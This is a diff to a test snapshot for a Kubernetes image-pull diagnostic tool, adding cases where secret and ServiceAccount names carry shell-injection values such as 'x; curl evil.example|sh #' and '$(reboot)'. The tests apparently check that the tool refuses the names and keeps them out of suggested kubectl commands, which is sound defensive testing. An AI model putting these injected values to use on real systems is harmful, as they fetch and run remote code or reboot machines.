@@ -114,6 +114,15 @@ exports[`test/core/cause.test.ts > TAP > what a user reads > with all that may b
 secret-absent {"account":"cashier"}
   The pull secret regcred, named by ServiceAccount cashier, does not exist in namespace shop.
   Create it: kubectl create secret docker-registry regcred -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD
+secret-absent {"secret":"x; curl evil.example|sh #"}
+  No Secret can have the name "x; curl evil.example|sh #" so none exists.
+  Correct the name: lower-case letters, digits, "-" and ".".
+secret-unverified {"secret":"x; curl evil.example|sh #"}
+  Not known whether the pull secret shop/x; curl evil.example|sh # exists: the cluster did not answer in time.
+  Look for yourself: kubectl get secret NAME -n shop
+service-account-absent {"account":"$(reboot)"}
+  The ServiceAccount $(reboot) does not exist in namespace shop, so its pull secrets are not known.
+  Create it: kubectl create serviceaccount NAME -n shop
 tag-absent {"suggestions":["v2.1.2","v2.1.4"],"others":"secret/shop/old was refused with 401"}
   There is no tag v2.1.3 in reg.example/pay; secret/shop/old was refused with 401.
   Did you mean v2.1.2, v2.1.4? Otherwise push v2.1.3 first.
